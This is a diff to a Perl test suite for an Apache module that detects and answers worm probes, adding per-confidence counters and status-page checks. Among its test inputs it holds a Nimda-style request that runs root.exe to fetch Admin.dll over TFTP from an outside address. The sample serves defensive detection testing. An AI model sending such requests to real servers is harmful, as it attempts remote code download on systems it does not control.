@@ -8,7 +8,7 @@ use lib "$FindBin::Bin/lib";
 use Apache::Test qw(-withtestmore);
 use WormreplyTest qw(:all);
 
-plan tests => 30, need_module 'wormreply', need_module 'status';
+plan tests => 40, need_module 'wormreply', need_module 'status';
 
 my @nimda = (nimda_scan())[0 .. 4];
 my $tftp = 'GET /scripts/root.exe?/c+tftp -i 192.0.2.1 GET Admin.dll '
@@ -23,7 +23,9 @@ sub get11 {
 my $before = status_auto();
 for my $k (qw(Requests Probes Exempt Rejected ProbeTimeUsec Probes-codered
               Probes-nimda Probes-iis Action-404 Action-403 Action-410
-              Action-close Action-pass)) {
+              Action-close Action-pass ProbesConfidence-certain
+              ProbesConfidence-likely ProbesConfidence-recon
+              NotifyingProbes HeldUncertain)) {
     ok exists $before->{"WormReply$k"}, "?auto has WormReply$k";
 }
 
@@ -65,6 +67,12 @@ is $d->{WormReplyProbes}, 15, 'probes: 10 + 1 rejected + 4 other actions';
 is $d->{'WormReplyProbes-codered'}, 3, 'codered: 3';
 is $d->{'WormReplyProbes-nimda'}, 10, 'nimda: 5 + 4 + the rejected one';
 is $d->{'WormReplyProbes-iis'}, 2, 'iis: 2';
+is $d->{'WormReplyProbesConfidence-certain'}, 13,
+    'confidence certain: Code Red and Nimda, 13';
+is $d->{'WormReplyProbesConfidence-likely'}, 2, 'confidence likely: iis, 2';
+is $d->{'WormReplyProbesConfidence-recon'}, 0, 'confidence recon: none';
+is $d->{WormReplyNotifyingProbes}, 13,
+    'probes of the families that notify by themselves (certain): 13';
 is $d->{WormReplyExempt}, 1, 'exempt: 1';
 is $d->{WormReplyRejected}, 1, 'rejected: 1';
 is $d->{'WormReplyAction-404'}, 10, 'answered 404: 10';
@@ -88,4 +96,7 @@ ok $d->{WormReplyProbeTimeUsec} > 0
     like $r->{body} // '',
         qr{<th align="left">probes</th><td>\d+</td>.*<td>&nbsp;&nbsp;nimda</td><td>\d+</td>.*answered close}s,
         'with the probes, a row per family and per action';
+    like $r->{body} // '',
+        qr{<td>&nbsp;&nbsp;by confidence</td><td>\d+ certain, \d+ likely, \d+ recon; \d+ of families that notify</td>},
+        'and the probes by confidence';
 }
